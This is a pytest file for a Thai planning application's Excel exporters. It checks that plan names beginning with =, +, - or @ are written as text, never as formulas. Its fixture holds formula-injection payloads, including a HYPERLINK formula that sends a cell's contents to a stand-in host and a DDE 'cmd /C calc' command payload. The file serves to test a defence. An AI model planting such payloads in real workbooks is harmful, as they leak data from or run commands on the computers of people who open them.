"""Every cell the application writes from a plan is text: a name beginning with ``=``, ``+``, ``-`` or ``@``
never becomes a formula (``=HYPERLINK(…)`` would run when the department opens the workbook) — in every
workbook the application writes. A new exporter of workbooks is added to ``WRITERS``."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from workbook_checks import cell_formulas, texts_in

from thaplan_desktop.domain.model import PlanData
from thaplan_desktop.domain.thai import to_arabic_digits
from thaplan_desktop.exporting.xlsx import TemplateOptions, XlsxOptions, export_forms, export_template
from thaplan_desktop.workspace import ProjectFields, Workspace

HOSTILE = {
    "strategy": '=HYPERLINK("http://example.invalid/?"&A1,"คลิก")',
    "program": "+1+1",
    "unit": "-2+3",
    "type": "@SUM(1,1)",
    "project": "=1+1",
    "details": "-cmd|' /C calc'!A0",
    "location": "@หมู่ 1",
}

WRITERS: dict[str, Callable[[PlanData, Path], object]] = {
    "export-xlsx": lambda plan, out: export_forms(plan, out),
    "export-xlsx --marks fill --thai-digits": lambda plan, out: export_forms(
        plan, out, XlsxOptions(month_marks="fill", thai_digits=True)),
    "export-template": lambda plan, out: export_template(plan, out, HOSTILE["unit"], TemplateOptions(rows=5)),
}


@pytest.fixture
def hostile_plan(demo_db: Path) -> PlanData:
    with Workspace.open(demo_db) as ws:
        edition = ws.find_edition().id
        ws.add_strategy(HOSTILE["strategy"])
        strategy = next(s.id for s in ws.strategies() if s.name == HOSTILE["strategy"])
        ws.add_program(strategy, HOSTILE["program"])
        program = next(p.id for p in ws.programs() if p.name == HOSTILE["program"])
        ws.add_unit(HOSTILE["unit"])
        unit = next(u.id for u in ws.units() if u.name == HOSTILE["unit"])
        ws.add_project(edition, ProjectFields(name=HOSTILE["project"], details=HOSTILE["details"],
                                              location=HOSTILE["location"], budget=1000, months={1, 2},
                                              program_id=program, unit_id=unit))
        return ws.plan_data(edition)


@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_no_workbook_the_application_writes_holds_a_formula(hostile_plan: PlanData, tmp_path: Path,
                                                            writer: str) -> None:
    out = tmp_path / "out.xlsx"
    WRITERS[writer](hostile_plan, out)
    assert cell_formulas(out) == []
    texts = {to_arabic_digits(t) for t in texts_in(out)}
    if "template" in writer:  # the drop-down lists (a hidden sheet) hold the plan's names, as text
        assert {HOSTILE["strategy"], HOSTILE["program"], HOSTILE["unit"]} <= texts
    else:
        assert {HOSTILE["project"], HOSTILE["details"], HOSTILE["location"]} <= texts
